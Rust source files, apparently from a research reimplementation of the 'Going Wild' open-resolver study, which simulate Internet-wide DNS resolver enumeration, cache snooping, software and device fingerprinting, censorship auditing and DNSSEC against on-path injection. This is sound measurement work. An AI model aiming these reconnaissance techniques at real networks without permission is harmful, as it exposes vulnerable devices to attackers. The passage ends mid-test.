//! The Section 2.6 utilization study: cache-snoop a resolver sample,
//! classify usage, and estimate client load (the Rajab-style follow-up).
//!
//! Run with: `cargo run --release --example utilization_study [sample]`

#![allow(deprecated)]

use goingwild::experiments::utilization;
use goingwild::{report, WorldConfig};
use scanner::enumerate;
use worldgen::build_world;

fn main() {
    let sample: usize = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(400);

    let mut world = build_world(WorldConfig::tiny(26));
    let vantage = world.scanner_ip;
    println!("enumerating the fleet...");
    let fleet = enumerate(&mut world, vantage, 26).noerror_ips();
    println!(
        "fleet: {} open resolvers; snooping {sample} of them",
        fleet.len()
    );
    println!("(15 TLD NS queries with RD=0, hourly, for 36 simulated hours)\n");

    let util = utilization(&mut world, &fleet, sample, 36);
    println!("{}", report::render_util(&util));

    println!("How the ≤5s inference works: the zone's NS TTL pins each");
    println!("cached entry's insertion time; the previous observation pins");
    println!("its expiry; the difference is the client-driven refresh gap.");
}
