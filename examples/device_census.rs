//! The Sections 2.3–2.4 census: CHAOS-fingerprint the resolver software
//! (Table 3) and TCP-banner-fingerprint the underlying devices
//! (Table 4) for one enumeration's fleet.
//!
//! Run with: `cargo run --release --example device_census [seed]`

#![allow(deprecated)]

use goingwild::experiments::{table3_software, table4_devices};
use goingwild::{report, WorldConfig};
use scanner::enumerate;
use worldgen::build_world;

fn main() {
    let seed: u64 = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(20151028);

    let mut world = build_world(WorldConfig::tiny(seed));
    let vantage = world.scanner_ip;
    println!("enumerating the fleet...");
    let fleet = enumerate(&mut world, vantage, seed).noerror_ips();
    println!("fleet: {} open resolvers\n", fleet.len());

    println!("CHAOS version.bind scan (Sec. 2.3)...");
    let t3 = table3_software(&mut world, &fleet, seed);
    println!("{}", report::render_table3(&t3));
    println!(
        "BIND share among version-revealing resolvers: {:.1}%\n",
        100.0 * t3.bind_share()
    );

    println!("TCP banner scan on FTP/SSH/Telnet/HTTP (Sec. 2.4)...");
    let t4 = table4_devices(&mut world, &fleet);
    println!("{}", report::render_table4(&t4));
    println!(
        "{} of {} resolvers ({:.1}%) exposed at least one TCP service",
        t4.tcp_responsive,
        t4.fleet,
        100.0 * t4.tcp_responsive as f64 / t4.fleet.max(1) as f64
    );
    println!("(paper: 26.3%; routers dominate the recognizable hardware)");
}
