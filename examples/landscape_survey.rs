//! The Section 2 landscape survey: weekly scans, country/RIR
//! fluctuation, software fingerprinting, and device classification.
//!
//! Run with: `cargo run --release --example landscape_survey [weeks]`

#![allow(deprecated)]

use goingwild::experiments::{
    fig1_weekly_counts, table1_country_flux, table2_rir_flux, table3_software, table4_devices,
};
use goingwild::{report, WorldConfig};
use scanner::enumerate;
use worldgen::build_world;

fn main() {
    let weeks: u32 = std::env::args()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(8);
    let cfg = WorldConfig::tiny(7);

    println!("== Figure 1: weekly scans ({weeks} weeks) ==");
    let fig1 = fig1_weekly_counts(cfg.clone(), weeks);
    println!("{}", report::render_fig1(&fig1));

    println!("== Table 1: country fluctuation ==");
    println!(
        "{}",
        report::render_flux("Top 10 countries", &table1_country_flux(&fig1, 10))
    );

    println!("== Table 2: RIR fluctuation ==");
    println!(
        "{}",
        report::render_flux("Registries", &table2_rir_flux(&fig1))
    );

    // Software + devices on a fresh world snapshot.
    let mut world = build_world(cfg);
    let vantage = world.scanner_ip;
    let fleet = enumerate(&mut world, vantage, 3).noerror_ips();

    println!("== Table 3: CHAOS software fingerprinting ==");
    let t3 = table3_software(&mut world, &fleet, 3);
    println!("{}", report::render_table3(&t3));

    println!("== Table 4: device fingerprinting ==");
    let t4 = table4_devices(&mut world, &fleet);
    println!("{}", report::render_table4(&t4));
}
