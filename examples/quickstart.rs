//! Quickstart: build a small simulated Internet, enumerate the open
//! resolvers, and query a few of them — the two core moves of the
//! *Going Wild* methodology.
//!
//! Run with: `cargo run --release --example quickstart`

use goingwild::WorldConfig;
use scanner::enumerate;
use worldgen::build_world;

fn main() {
    // A 1:10,000-scale Internet (~2,700 resolvers) for instant results.
    let cfg = WorldConfig::tiny(42);
    println!("building world (seed {}, scale {})...", cfg.seed, cfg.scale);
    let mut world = build_world(cfg);
    println!(
        "world: {} resolvers, {} web hosts, {} DHCP pools, {} scannable addresses",
        world.stats.resolvers,
        world.stats.web_hosts,
        world.stats.pools,
        world.scannable_size()
    );

    // Internet-wide enumeration scan (Sec. 2.2).
    let vantage = world.scanner_ip;
    let result = enumerate(&mut world, vantage, 1);
    let counts = result.counts();
    println!("\nenumeration scan from {vantage}:");
    for key in ["ALL", "NOERROR", "REFUSED", "SERVFAIL"] {
        println!("  {key:<9} {}", counts.get(key).copied().unwrap_or(0));
    }
    println!(
        "  responses from a different source IP (proxies): {}",
        result.mismatched_sources()
    );

    // Resolve a catalog domain through the first few open resolvers.
    let fleet = result.noerror_ips();
    println!("\nresolving paypal.example through 5 open resolvers:");
    for &ip in fleet.iter().take(5) {
        match scanner::resolve_at(&mut world, vantage, ip, "paypal.example") {
            Some((rcode, ips)) => println!("  {ip} -> {rcode:?} {ips:?}"),
            None => println!("  {ip} -> (no answer)"),
        }
    }
    let legit = &world.infra.legit_ips["paypal.example"];
    println!("legitimate answer set: {legit:?}");
}
