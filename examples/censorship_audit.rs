//! A censorship audit from the client's viewpoint (Secs. 3–4): scan a
//! censorship-heavy domain set at every open resolver, prefilter,
//! fetch content, cluster, and report who is redirected where.
//!
//! Run with: `cargo run --release --example censorship_audit`

use goingwild::{report, run_analysis, AnalysisOptions, WorldConfig};
use worldgen::build_world;

fn main() {
    let mut world = build_world(WorldConfig::tiny(2015));
    let opts = AnalysisOptions {
        domains: Some(
            [
                "facebook.example",
                "twitter.example",
                "youtube.example",
                "youporn.example",
                "adultfinder.example",
                "bet-at-home.example",
                "blogspot.example",
                "rotten.example",
                "okcupid.example",
                "gt.gwild.example",
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
        ),
        ..Default::default()
    };
    let analysis = run_analysis(&mut world, &opts);
    println!("{}", report::render_analysis(&analysis));

    println!("Per-country compliance for youporn.example:");
    for cc in ["TR", "ID", "MY", "US", "DE", "MN"] {
        let rate = analysis
            .censorship
            .compliance
            .rate(geodb::Country::new(cc), &["youporn.example"]);
        match rate {
            Some(r) => println!("  {cc}: {:.1}% of resolvers censor", 100.0 * r),
            None => println!("  {cc}: no data"),
        }
    }
}
