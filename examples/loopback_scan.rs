//! Scan *real* DNS servers over real UDP sockets: spawn a fleet of
//! simulated resolvers on 127.0.0.1 with tokio, then enumerate and
//! fingerprint them with the tokio scan driver — the same methodology
//! as the simulation campaigns, on an actual network stack.
//!
//! Run with: `cargo run --release --example loopback_scan`

use resolversim::tokioserve::spawn_fleet;
use resolversim::{
    CacheProfile, ChaosPolicy, DeviceProfile, DnsUniverse, DomainCategory, DomainKind,
    DomainRecord, ResolverBehavior, ResolverHost, SoftwareProfile, TldCacheSim,
};
use scanner::tokio_scan::enumerate_and_fingerprint;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::time::Duration;

fn universe() -> Arc<DnsUniverse> {
    let mut u = DnsUniverse::new();
    u.add_domain(DomainRecord {
        name: "probe.example".into(),
        category: DomainCategory::Misc,
        kind: DomainKind::Fixed(vec![Ipv4Addr::new(198, 51, 100, 42)]),
        ttl: 60,
        is_mail_host: false,
    });
    Arc::new(u)
}

fn resolver(
    behavior: ResolverBehavior,
    family: &str,
    version: &str,
    chaos: ChaosPolicy,
) -> ResolverHost {
    ResolverHost::new(
        universe(),
        behavior,
        SoftwareProfile::new(family, version, chaos),
        DeviceProfile::closed(),
        TldCacheSim::new(CacheProfile::EmptyAnswer),
        geodb::Rir::Ripe,
        1,
    )
}

#[tokio::main]
async fn main() -> std::io::Result<()> {
    // A little fleet with the behaviours a real scan encounters.
    let fleet = spawn_fleet(
        vec![
            resolver(
                ResolverBehavior::Honest,
                "BIND",
                "9.8.2",
                ChaosPolicy::Genuine,
            ),
            resolver(
                ResolverBehavior::Honest,
                "BIND",
                "9.3.6",
                ChaosPolicy::Genuine,
            ),
            resolver(
                ResolverBehavior::Honest,
                "Dnsmasq",
                "2.52",
                ChaosPolicy::Genuine,
            ),
            resolver(
                ResolverBehavior::Honest,
                "BIND",
                "9.9.5",
                ChaosPolicy::Custom("none of your business".into()),
            ),
            resolver(
                ResolverBehavior::RefusedAll,
                "BIND",
                "9.7.3",
                ChaosPolicy::Genuine,
            ),
            resolver(
                ResolverBehavior::StaticIp {
                    ip: Ipv4Addr::new(203, 0, 113, 99),
                },
                "Unbound",
                "1.4.22",
                ChaosPolicy::Genuine,
            ),
        ],
        SocketAddrV4::new(Ipv4Addr::LOCALHOST, 0),
    )
    .await?;
    let targets: Vec<SocketAddrV4> = fleet.iter().map(|s| s.local_addr).collect();
    println!("spawned {} resolvers on loopback", targets.len());

    let results =
        enumerate_and_fingerprint(&targets, "probe.example", 16, Duration::from_secs(2)).await?;
    println!("\n{:<22} {:<10} version.bind", "endpoint", "rcode");
    for (addr, rcode, version) in &results {
        println!(
            "{:<22} {:<10} {}",
            addr.to_string(),
            rcode.mnemonic(),
            version.as_deref().unwrap_or("-")
        );
    }

    for s in fleet {
        s.shutdown().await;
    }
    Ok(())
}
