//! The Section 5 DNSSEC discussion, as an executable experiment.
//!
//! The paper argues that DNSSEC does not defeat the Great Firewall's
//! injection *unless* the client refuses unsigned answers and waits:
//! the forged response arrives first, and "a resolver typically
//! utilizes the first response that matches an open transaction".
//!
//! Setup: an honest resolver behind a GFW-style injector, serving a
//! DNSSEC-signed censored domain. Two client strategies:
//! first-response-wins (loses) and wait-for-AD (wins).

use dnswire::{Message, MessageBuilder, Name, RecordType};
use netsim::{Datagram, Network, NetworkConfig, SimTime};
use resolversim::{
    CacheProfile, ChaosPolicy, DeviceProfile, DnsUniverse, DomainCategory, DomainKind,
    DomainRecord, GreatFirewall, ResolverBehavior, ResolverHost, SoftwareProfile, TldCacheSim,
};
use std::collections::BTreeSet;
use std::net::Ipv4Addr;
use std::sync::Arc;

const LEGIT_IP: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 7);

fn setup() -> (Network, Ipv4Addr) {
    let mut universe = DnsUniverse::new();
    universe.add_domain(DomainRecord {
        name: "blocked.example".into(),
        category: DomainCategory::Alexa,
        kind: DomainKind::Fixed(vec![LEGIT_IP]),
        ttl: 300,
        is_mail_host: false,
    });
    universe.sign_domain("blocked.example");
    let universe = Arc::new(universe);

    let mut net = Network::new(NetworkConfig {
        seed: 5,
        udp_loss: 0.0,
        latency_ms: (20, 60),
        tcp_loss: 0.0,
    });
    // Honest validating resolver inside the censored range.
    let resolver_ip = Ipv4Addr::new(110, 7, 7, 7);
    let host = net.add_host(Box::new(ResolverHost::new(
        universe,
        ResolverBehavior::Honest,
        SoftwareProfile::new("BIND", "9.9.5", ChaosPolicy::Genuine),
        DeviceProfile::closed(),
        TldCacheSim::new(CacheProfile::EmptyAnswer),
        geodb::Rir::Apnic,
        3,
    )));
    net.bind_ip(resolver_ip, host);

    // The on-path injector censors the domain for border-crossing
    // queries.
    let censored: Arc<BTreeSet<String>> =
        Arc::new(["blocked.example".to_string()].into_iter().collect());
    net.add_injector(Box::new(GreatFirewall::new(
        vec![(
            Ipv4Addr::new(110, 0, 0, 0),
            Ipv4Addr::new(110, 255, 255, 255),
        )],
        censored,
    )));
    (net, resolver_ip)
}

fn query(net: &mut Network, resolver_ip: Ipv4Addr) -> Vec<Message> {
    let client_ip = Ipv4Addr::new(100, 0, 0, 1);
    let sock = net.open_socket(client_ip, 47_000);
    let q = MessageBuilder::query(
        0xD05,
        Name::parse("blocked.example").unwrap(),
        RecordType::A,
    )
    .build();
    net.send_udp(Datagram::new(
        client_ip,
        47_000,
        resolver_ip,
        53,
        q.encode(),
    ));
    net.run_until(SimTime::from_secs(10));
    net.recv_all(sock)
        .into_iter()
        .filter_map(|(_, d)| Message::decode(&d.payload).ok())
        .filter(|m| m.header.id == 0xD05 && m.header.response)
        .collect()
}

#[test]
fn first_response_client_is_fooled() {
    let (mut net, resolver_ip) = setup();
    let responses = query(&mut net, resolver_ip);
    assert!(responses.len() >= 2, "forged + genuine must both arrive");
    let first = &responses[0];
    assert_ne!(
        first.answer_ips(),
        vec![LEGIT_IP],
        "the injected answer wins the race"
    );
    assert!(
        !first.header.authentic_data,
        "the injector cannot forge validation"
    );
}

#[test]
fn ad_waiting_client_survives_injection() {
    let (mut net, resolver_ip) = setup();
    let responses = query(&mut net, resolver_ip);
    // Strategy from Sec. 5: for a domain known to be signed, drop
    // unsigned answers and keep waiting.
    let validated: Vec<&Message> = responses
        .iter()
        .filter(|m| m.header.authentic_data)
        .collect();
    assert_eq!(validated.len(), 1, "exactly one authenticated answer");
    assert_eq!(validated[0].answer_ips(), vec![LEGIT_IP]);
}

#[test]
fn unsigned_zone_has_no_defense() {
    // The same race for an *unsigned* domain: no response carries AD,
    // so the waiting strategy has nothing to wait for — the paper's
    // point about partial DNSSEC deployment.
    let mut universe = DnsUniverse::new();
    universe.add_domain(DomainRecord {
        name: "blocked.example".into(),
        category: DomainCategory::Alexa,
        kind: DomainKind::Fixed(vec![LEGIT_IP]),
        ttl: 300,
        is_mail_host: false,
    });
    // NOT signed.
    let universe = Arc::new(universe);
    let mut net = Network::new(NetworkConfig {
        seed: 6,
        udp_loss: 0.0,
        latency_ms: (20, 60),
        tcp_loss: 0.0,
    });
    let resolver_ip = Ipv4Addr::new(110, 7, 7, 7);
    let host = net.add_host(Box::new(ResolverHost::new(
        universe,
        ResolverBehavior::Honest,
        SoftwareProfile::new("BIND", "9.9.5", ChaosPolicy::Genuine),
        DeviceProfile::closed(),
        TldCacheSim::new(CacheProfile::EmptyAnswer),
        geodb::Rir::Apnic,
        3,
    )));
    net.bind_ip(resolver_ip, host);
    let censored: Arc<BTreeSet<String>> =
        Arc::new(["blocked.example".to_string()].into_iter().collect());
    net.add_injector(Box::new(GreatFirewall::new(
        vec![(
            Ipv4Addr::new(110, 0, 0, 0),
            Ipv4Addr::new(110, 255, 255, 255),
        )],
        censored,
    )));
    let responses = query(&mut net, resolver_ip);
    assert!(responses.iter().all(|m| !m.header.authentic_data));
}
