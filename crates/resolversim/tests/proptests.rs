//! Property-based invariants of the resolver substrate: the cache
//! simulator's closed-form series must look exactly like a real
//! TTL-decrementing cache to the snooping classifier, and universe
//! resolution must be a pure function of its inputs.

use proptest::prelude::*;
use resolversim::{
    CacheProfile, DnsUniverse, DomainCategory, DomainKind, DomainRecord, Resolution,
    SnoopObservation, TldCacheSim,
};
use std::net::Ipv4Addr;

fn in_use(refresh_gap_s: u32, phase_s: u32) -> CacheProfile {
    CacheProfile::InUse {
        refresh_gap_s,
        tld_mask: u32::MAX,
        phase_s,
    }
}

proptest! {
    /// An in-use cache never reports more than the zone TTL, and a
    /// cached observation follows real cache arithmetic: remaining TTL
    /// plus elapsed-since-insertion equals the zone TTL.
    #[test]
    fn in_use_ttls_never_exceed_zone_ttl(
        gap in 1u32..7_200,
        phase in 0u32..10_000,
        zone_ttl in 60u32..172_800,
        t0 in 0u64..1_000_000,
    ) {
        let mut sim = TldCacheSim::new(in_use(gap, phase));
        for round in 0..48u64 {
            let t = t0 + round * 3_600;
            for tld in 0..15u32 {
                if let SnoopObservation::Cached { remaining_ttl } = sim.observe(tld, zone_ttl, t) {
                    prop_assert!(
                        remaining_ttl <= zone_ttl,
                        "tld {tld} at t={t}: remaining {remaining_ttl} > zone {zone_ttl}"
                    );
                }
            }
        }
    }

    /// Within one cached period, two observations of the same TLD
    /// decrease by exactly the elapsed wall-clock time — the arithmetic
    /// the snooping classifier's refresh-gap inference relies on.
    #[test]
    fn in_use_ttl_decreases_at_wall_clock_rate(
        gap in 1u32..3_600,
        phase in 0u32..10_000,
        zone_ttl in 7_200u32..172_800,
        t0 in 0u64..1_000_000,
        dt in 1u64..3_600,
    ) {
        let mut sim = TldCacheSim::new(in_use(gap, phase));
        let a = sim.observe(3, zone_ttl, t0);
        let b = sim.observe(3, zone_ttl, t0 + dt);
        if let (
            SnoopObservation::Cached { remaining_ttl: r0 },
            SnoopObservation::Cached { remaining_ttl: r1 },
        ) = (a, b)
        {
            // Same cached period iff the first TTL outlives dt.
            if (r0 as u64) > dt {
                prop_assert_eq!(
                    r1 as u64,
                    r0 as u64 - dt,
                    "TTL must decrease at wall-clock rate"
                );
            }
        }
    }

    /// The in-use cycle really cycles: when the refresh gap is shorter
    /// than the zone TTL (the common case — "frequent" means ≤5 s), an
    /// entry observed absent is cached again `refresh_gap_s` seconds
    /// later, because the re-added entry outlives the remainder of the
    /// gap.
    #[test]
    fn in_use_entries_are_readded_within_the_refresh_gap(
        gap in 1u32..300,
        phase in 0u32..10_000,
        zone_ttl in 300u32..7_200,
        t0 in 0u64..1_000_000,
    ) {
        let mut sim = TldCacheSim::new(in_use(gap, phase));
        if matches!(sim.observe(0, zone_ttl, t0), SnoopObservation::Absent) {
            // One second past the gap the entry must be cached again.
            let t1 = t0 + gap as u64;
            let readded = matches!(
                sim.observe(0, zone_ttl, t1),
                SnoopObservation::Cached { .. }
            );
            prop_assert!(readded, "entry still absent {}s after first absence", gap);
        }
    }

    /// Degenerate profiles look exactly as advertised for every query.
    #[test]
    fn degenerate_profiles_are_constant(
        ttl in 0u32..100_000,
        zone_ttl in 60u32..172_800,
        t in 0u64..10_000_000,
        tld in 0u32..15,
    ) {
        let mut stat = TldCacheSim::new(CacheProfile::StaticTtl { ttl });
        prop_assert_eq!(
            stat.observe(tld, zone_ttl, t),
            SnoopObservation::Cached { remaining_ttl: ttl }
        );
        let mut zero = TldCacheSim::new(CacheProfile::ZeroTtl);
        prop_assert_eq!(
            zero.observe(tld, zone_ttl, t),
            SnoopObservation::Cached { remaining_ttl: 0 }
        );
        let mut empty = TldCacheSim::new(CacheProfile::EmptyAnswer);
        prop_assert_eq!(empty.observe(tld, zone_ttl, t), SnoopObservation::Empty);
        // A TTL-resetter never lets the entry expire.
        let mut resetter = TldCacheSim::new(CacheProfile::TtlResetter);
        let held = matches!(
            resetter.observe(tld, zone_ttl, t),
            SnoopObservation::Cached { .. }
        );
        prop_assert!(held);
    }

    /// SingleThenSilent answers exactly once, whatever the schedule.
    #[test]
    fn single_then_silent_answers_once(
        times in proptest::collection::vec(0u64..10_000_000, 2..20),
        zone_ttl in 60u32..172_800,
    ) {
        let mut sim = TldCacheSim::new(CacheProfile::SingleThenSilent);
        let mut answered = 0u32;
        for (i, t) in times.iter().enumerate() {
            match sim.observe((i % 15) as u32, zone_ttl, *t) {
                SnoopObservation::Silent => {}
                _ => answered += 1,
            }
        }
        prop_assert_eq!(answered, 1);
    }

    /// Universe resolution is pure: identical (name, region, salt)
    /// triples always produce identical answers, and Fixed records
    /// return their registered addresses verbatim.
    #[test]
    fn universe_resolution_is_pure(
        label in "[a-z]{1,12}",
        ip_bits in 0x0B00_0000u32..0x0BFF_FFFF,
        ttl in 1u32..86_400,
        salt_a in 0u64..1_000,
        salt_b in 0u64..1_000,
    ) {
        let name = format!("{label}.example");
        let ip = Ipv4Addr::from(ip_bits);
        let mut uni = DnsUniverse::new();
        uni.add_domain(DomainRecord {
            name: name.clone(),
            category: DomainCategory::Misc,
            kind: DomainKind::Fixed(vec![ip]),
            ttl,
            is_mail_host: false,
        });
        for region in [geodb::Rir::Arin, geodb::Rir::Ripe, geodb::Rir::Apnic] {
            let a = uni.resolve(&name, region, salt_a);
            let b = uni.resolve(&name, region, salt_a);
            prop_assert_eq!(&a, &b, "resolution must be deterministic");
            // Fixed records ignore region and salt entirely.
            let c = uni.resolve(&name, region, salt_b);
            prop_assert_eq!(&a, &c);
            match a {
                Resolution::Ips { ips, ttl: got } => {
                    prop_assert_eq!(ips, vec![ip]);
                    prop_assert_eq!(got, ttl);
                }
                Resolution::NxDomain => prop_assert!(false, "registered domain was NX"),
            }
        }
        // Unregistered names are NXDOMAIN.
        prop_assert_eq!(
            uni.resolve("no-such-name.example", geodb::Rir::Arin, 0),
            Resolution::NxDomain
        );
    }
}
