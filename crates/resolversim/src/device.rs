//! Hardware / OS device profiles and the TCP banners they expose
//! (Section 2.4, Table 4).
//!
//! The paper fingerprints devices by connecting to FTP, HTTP, HTTPS,
//! SSH, and Telnet and matching >2,245 hand-written regexes against the
//! banners. Here every device class emits characteristic banner strings;
//! the scanner side (`classify::fingerprint`) carries the matching rules.

use netsim::{HttpResponse, TcpRequest, TcpResponse};
use serde::{Deserialize, Serialize};

/// Hardware category (Table 4, hardware columns).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum DeviceClass {
    /// Routers, modems, gateways.
    Router,
    /// Embedded OSes / boards (GoAhead, RomPager, Arduino, RPi).
    Embedded,
    /// Firewall appliances.
    Firewall,
    /// IP cameras.
    Camera,
    /// Digital video recorders.
    Dvr,
    /// Network-attached storage.
    Nas,
    /// ISP DSL multiplexers.
    Dslam,
    /// Recognizable but uncategorized (servers, appliances).
    Other,
    /// Host exposes no TCP services (73.7% of resolvers) or nothing
    /// recognizable.
    Unknown,
}

impl DeviceClass {
    /// Table 4 column label.
    pub fn label(self) -> &'static str {
        match self {
            DeviceClass::Router => "Router",
            DeviceClass::Embedded => "Embedded",
            DeviceClass::Firewall => "Firewall",
            DeviceClass::Camera => "Camera",
            DeviceClass::Dvr => "DVR",
            DeviceClass::Nas => "NAS",
            DeviceClass::Dslam => "DSLAM",
            DeviceClass::Other => "Others",
            DeviceClass::Unknown => "Unknown",
        }
    }
}

/// Operating system category (Table 4, OS columns).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum DeviceOs {
    /// Generic Linux.
    Linux,
    /// ZyXEL's CPE firmware.
    ZyNos,
    /// CentOS servers.
    CentOs,
    /// BSD/other Unix.
    Unix,
    /// Microsoft Windows.
    Windows,
    /// Patton SmartWare CPE firmware.
    SmartWare,
    /// MikroTik RouterOS.
    RouterOs,
    /// Recognizable but uncategorized.
    Other,
    /// No OS evidence.
    Unknown,
}

impl DeviceOs {
    /// Table 4 column label.
    pub fn label(self) -> &'static str {
        match self {
            DeviceOs::Linux => "Linux",
            DeviceOs::ZyNos => "ZyNOS",
            DeviceOs::CentOs => "CentOS",
            DeviceOs::Unix => "Unix",
            DeviceOs::Windows => "Windows",
            DeviceOs::SmartWare => "SmartWare",
            DeviceOs::RouterOs => "RouterOS",
            DeviceOs::Other => "Others",
            DeviceOs::Unknown => "Unknown",
        }
    }
}

/// A device's externally observable TCP surface.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DeviceProfile {
    /// Hardware category.
    pub class: DeviceClass,
    /// Operating system.
    pub os: DeviceOs,
    /// Whether the host exposes any TCP services at all. The paper gets
    /// banners from only 26.3% of resolvers.
    pub tcp_exposed: bool,
    /// Stable per-device noise (serial numbers in banners etc.).
    pub serial: u32,
}

impl DeviceProfile {
    /// A device that exposes nothing.
    pub fn closed() -> Self {
        DeviceProfile {
            class: DeviceClass::Unknown,
            os: DeviceOs::Unknown,
            tcp_exposed: false,
            serial: 0,
        }
    }

    /// Banner for a TCP service port, or `None` if the port is closed on
    /// this device.
    pub fn banner(&self, port: u16) -> Option<String> {
        if !self.tcp_exposed {
            return None;
        }
        let s = self.serial;
        match (self.class, self.os, port) {
            // --- FTP (21) ---
            (DeviceClass::Router, DeviceOs::ZyNos, 21) => {
                Some(format!("220 ZyRouter FTP version 1.0 ready (ZyNOS) S/N {s}"))
            }
            (DeviceClass::Router, _, 21) => Some("220 router ftpd ready".into()),
            (DeviceClass::Nas, _, 21) => {
                Some(format!("220 NAS4You file server (ProFTPD) unit {s}"))
            }
            (_, DeviceOs::Linux, 21) => Some("220 (vsFTPd 2.3.5)".into()),
            (_, DeviceOs::CentOs, 21) => Some("220 (vsFTPd 3.0.2) CentOS release".into()),
            // --- SSH (22) ---
            (_, DeviceOs::Linux, 22) => Some("SSH-2.0-dropbear_2012.55".into()),
            (_, DeviceOs::CentOs, 22) => Some("SSH-2.0-OpenSSH_5.3 CentOS".into()),
            (_, DeviceOs::Unix, 22) => Some("SSH-2.0-OpenSSH_6.2 FreeBSD".into()),
            (DeviceClass::Firewall, _, 22) => Some("SSH-2.0-FortressWall_fw".into()),
            (_, DeviceOs::RouterOs, 22) => Some("SSH-2.0-ROSSSH".into()),
            // --- Telnet (23) ---
            (DeviceClass::Router, DeviceOs::ZyNos, 23) => {
                Some("ZyRouter login: Password: (ZyNOS firmware)".into())
            }
            (DeviceClass::Router, DeviceOs::SmartWare, 23) => {
                Some("SmartWare R6.T automaton login:".into())
            }
            (DeviceClass::Dvr, _, 23) => Some(format!("dm500plus login: unit{s}")),
            (DeviceClass::Dslam, _, 23) => {
                Some("DSLAM-ACCESS MultiplexNode user access verification".into())
            }
            (DeviceClass::Router, _, 23) => Some("BCM96338 ADSL Router\r\nLogin:".into()),
            (_, DeviceOs::Windows, 23) => {
                Some("Welcome to Microsoft Telnet Service\r\nlogin:".into())
            }
            // --- HTTP (80) ---
            (DeviceClass::Router, DeviceOs::ZyNos, 80) => Some(
                "HTTP/1.0 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"ZyRouter ZR-660\"\r\nServer: RomPager/4.07 UPnP/1.0".into(),
            ),
            (DeviceClass::Embedded, _, 80) => {
                Some("HTTP/1.0 200 OK\r\nServer: GoAhead-Webs".into())
            }
            (DeviceClass::Camera, _, 80) => Some(format!(
                "HTTP/1.0 200 OK\r\nServer: NetCam-httpd\r\nrealm=\"netcam {s}\""
            )),
            (DeviceClass::Router, DeviceOs::RouterOs, 80) => {
                Some("HTTP/1.0 200 OK\r\nServer: mikrotik routeros webfig".into())
            }
            (DeviceClass::Firewall, _, 80) => {
                Some("HTTP/1.0 403 Forbidden\r\nServer: FortressWall appliance".into())
            }
            (DeviceClass::Nas, _, 80) => {
                Some("HTTP/1.0 200 OK\r\nServer: NAS4You-WebAdmin".into())
            }
            (DeviceClass::Dvr, _, 80) => {
                Some("HTTP/1.0 200 OK\r\nServer: DVR-Webs dm500plus".into())
            }
            (_, DeviceOs::Windows, 80) => {
                Some("HTTP/1.0 200 OK\r\nServer: Microsoft-IIS/7.5".into())
            }
            (_, DeviceOs::CentOs, 80) => {
                Some("HTTP/1.0 403 Forbidden\r\nServer: Apache/2.2.15 (CentOS)".into())
            }
            (_, DeviceOs::Linux, 80) => {
                Some("HTTP/1.0 200 OK\r\nServer: lighttpd/1.4.28 (linux)".into())
            }
            (_, DeviceOs::Unix, 80) => {
                Some("HTTP/1.0 200 OK\r\nServer: Apache/2.4.6 (Unix)".into())
            }
            // Hosts that expose TCP but whose banners match no
            // fingerprint rule — the "Unknown" columns of Table 4
            // (29.3% hardware / 23.9% OS).
            (DeviceClass::Unknown, _, 21) => Some(format!("220 service ready ({s})")),
            (DeviceClass::Unknown, _, 80) => Some("HTTP/1.0 200 OK".into()),
            _ => None,
        }
    }

    /// Serve a banner probe as a [`TcpResponse`], mirroring how the
    /// fingerprint scan consumes it. HTTP requests to CPE devices yield
    /// the device's administration login page — this is what the study's
    /// HTTP acquisition sees for the 8,194 self-IP resolvers (Sec. 4.1:
    /// 65.9% router logins, 7.0% IP cameras).
    pub fn probe(&self, port: u16, req: &TcpRequest) -> Option<TcpResponse> {
        match req {
            TcpRequest::BannerProbe => self.banner(port).map(TcpResponse::Banner),
            TcpRequest::Http(_) if port == 80 => {
                if !self.tcp_exposed {
                    return None;
                }
                let ctx = htmlsim::gen::PageCtx::new("device.local", self.serial as u64);
                let body = match self.class {
                    DeviceClass::Router => {
                        let vendor = match self.os {
                            DeviceOs::ZyNos => htmlsim::gen::RouterVendor::ZyRouter,
                            DeviceOs::SmartWare => htmlsim::gen::RouterVendor::TpConnect,
                            _ => htmlsim::gen::RouterVendor::Generic,
                        };
                        htmlsim::gen::router_login(vendor, &ctx)
                    }
                    DeviceClass::Camera => htmlsim::gen::camera_login(&ctx),
                    _ => format!(
                        "<html><head><title>{}</title></head><body>{}</body></html>",
                        self.class.label(),
                        self.banner(80).unwrap_or_default()
                    ),
                };
                Some(TcpResponse::Http(HttpResponse::ok(body)))
            }
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dev(class: DeviceClass, os: DeviceOs) -> DeviceProfile {
        DeviceProfile {
            class,
            os,
            tcp_exposed: true,
            serial: 1234,
        }
    }

    #[test]
    fn closed_device_answers_nothing() {
        let d = DeviceProfile::closed();
        for port in [21, 22, 23, 80] {
            assert!(d.banner(port).is_none());
        }
    }

    #[test]
    fn zynos_router_identifiable_on_multiple_ports() {
        let d = dev(DeviceClass::Router, DeviceOs::ZyNos);
        assert!(d.banner(21).unwrap().contains("ZyNOS"));
        assert!(d.banner(23).unwrap().contains("ZyNOS"));
        assert!(d.banner(80).unwrap().contains("RomPager"));
    }

    #[test]
    fn dvr_token_matches_paper_example() {
        // The paper's worked example: "dm500plus login" → DVR.
        let d = dev(DeviceClass::Dvr, DeviceOs::Linux);
        assert!(d.banner(23).unwrap().contains("dm500plus login"));
    }

    #[test]
    fn embedded_serves_goahead() {
        let d = dev(DeviceClass::Embedded, DeviceOs::Unknown);
        assert!(d.banner(80).unwrap().contains("GoAhead-Webs"));
    }

    #[test]
    fn serial_varies_banners() {
        let mut a = dev(DeviceClass::Camera, DeviceOs::Linux);
        let mut b = a.clone();
        a.serial = 1;
        b.serial = 2;
        assert_ne!(a.banner(80), b.banner(80));
    }

    #[test]
    fn probe_wraps_responses() {
        let d = dev(DeviceClass::Router, DeviceOs::ZyNos);
